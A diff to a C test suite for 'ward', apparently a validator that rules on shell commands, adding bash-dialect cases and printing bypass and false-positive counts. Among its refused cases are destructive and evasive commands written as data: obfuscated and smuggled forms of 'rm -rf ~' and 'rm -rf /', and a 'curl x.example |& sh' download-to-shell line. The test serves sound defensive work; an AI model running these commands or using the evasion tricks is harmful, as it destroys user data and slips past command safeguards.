@@ -993,8 +993,74 @@ END_TEST
 START_TEST(test_bypasses)
 {
 	int bad = check_cases(bypasses, ARRAY_N(bypasses), WARD_VERDICT_REFUSED);
+	size_t attacks = ARRAY_N(bypasses) + ARRAY_N(refusals) + ARRAY_N(obfuscated);
+
+	printf("# validators: %zu attacks (%zu of issue 16's bypasses), %d let through or misnamed\n",
+	       attacks, ARRAY_N(bypasses), bad);
+	fflush(stdout);
 
 	ck_assert_msg(bad == 0, "%d bypass cases wrong", bad);
+}
+END_TEST
+
+/* --shell bash: the string parsed as bash reads it; what it cannot model
+ * refused with its column, never guessed. */
+START_TEST(test_bash_dialect)
+{
+	static const struct {
+		const char *cmd;
+		enum ward_verdict_kind kind;
+		const char *rule;
+	} cases[] = {
+		{ "echo $'a\\tb'", WARD_VERDICT_ALLOWED, "" },
+		{ "diff <(ls a) <(ls b)", WARD_VERDICT_ALLOWED, "" },
+		{ "x=abc; echo ${x//a/b} ${x^^} ${x:1:2}", WARD_VERDICT_ALLOWED, "" },
+		{ "[[ -f x && $y =~ ^a ]] && echo y", WARD_VERDICT_ALLOWED, "" },
+		{ "function f { echo hi; }; f", WARD_VERDICT_ALLOWED, "" },
+		{ "make 2>&1 |& tee log", WARD_VERDICT_ALLOWED, "" },
+		{ "i=0; echo $((i+1))", WARD_VERDICT_ALLOWED, "" },
+		{ "$'\\x72m' -rf ~", WARD_VERDICT_REFUSED, "blocked.rm-root" },
+		{ "bash <<< 'rm -rf ~'", WARD_VERDICT_REFUSED, "blocked.rm-root" },
+		{ "curl -s x.example |& sh", WARD_VERDICT_REFUSED, "blocked.download-to-shell" },
+		{ "echo $((x+1))", WARD_VERDICT_REFUSED, "dangerous.dynamic-code" },
+		{ "x='a[$(rm -rf ~)]'; echo $((x))", WARD_VERDICT_REFUSED, "dangerous.dynamic-code" },
+		{ "${x:-rm} -rf ~", WARD_VERDICT_REFUSED, "validator.unresolved-program" },
+	};
+	size_t i;
+
+	for (i = 0; i < ARRAY_N(cases); i++) {
+		struct ward_verdict v;
+		struct ward_error *err = NULL;
+
+		ck_assert_msg(ward_validate_shell(NULL, cases[i].cmd, WARD_SHELL_BASH, &v, &err) == 0,
+			      "'%s': %s", cases[i].cmd, err ? err->message : "");
+		ck_assert_msg(v.kind == cases[i].kind && strcmp(v.rule ? v.rule : "", cases[i].rule) == 0,
+			      "'%s': %s by %s", cases[i].cmd, ward_verdict_kind_name(v.kind),
+			      v.rule ? v.rule : "-");
+		ward_verdict_release(&v);
+	}
+	/* not modelled yet: refused with the column, in bash as in sh */
+	{
+		const char *unmodelled[] = { "a=(rm -rf /); \"${a[@]}\"", "for ((i=0;i<3;i++)); do rm -rf ~; done" };
+
+		for (i = 0; i < ARRAY_N(unmodelled); i++) {
+			struct ward_verdict v;
+			struct ward_error *err = NULL;
+
+			ck_assert_int_lt(ward_validate_shell(NULL, unmodelled[i], WARD_SHELL_BASH, &v, &err), 0);
+			ck_assert_ptr_nonnull(strstr(err->message, "not supported at"));
+			ward_error_free(err);
+		}
+	}
+	/* the same string in sh is another program: $'…' is not special to dash */
+	{
+		struct ward_verdict v;
+		struct ward_error *err = NULL;
+
+		ck_assert_int_eq(ward_validate_shell(NULL, "$'\\x72m' -rf ~", WARD_SHELL_SH, &v, &err), 0);
+		ck_assert_int_eq(v.kind, WARD_VERDICT_ALLOWED);
+		ward_verdict_release(&v);
+	}
 }
 END_TEST
 
@@ -1036,6 +1102,9 @@ START_TEST(test_ordinary)
 		}
 		ward_verdict_release(&v);
 	}
+	printf("# validators: false positives %d of %zu ordinary commands (%.1f%%)\n", bad, n,
+	       100.0 * bad / (double)n);
+	fflush(stdout);
 	ck_assert_msg(bad == 0, "%d of %zu ordinary commands refused", bad, n);
 	ck_assert_uint_ge(n, 200);
 }
@@ -1486,6 +1555,7 @@ int main(void)
 	tcase_add_test(tc, test_every_rule_has_cases);
 	tcase_add_test(tc, test_refusals);
 	tcase_add_test(tc, test_bypasses);
+	tcase_add_test(tc, test_bash_dialect);
 	tcase_add_test(tc, test_obfuscated);
 	tcase_add_test(tc, test_approvals);
 	tcase_add_test(tc, test_ordinary);
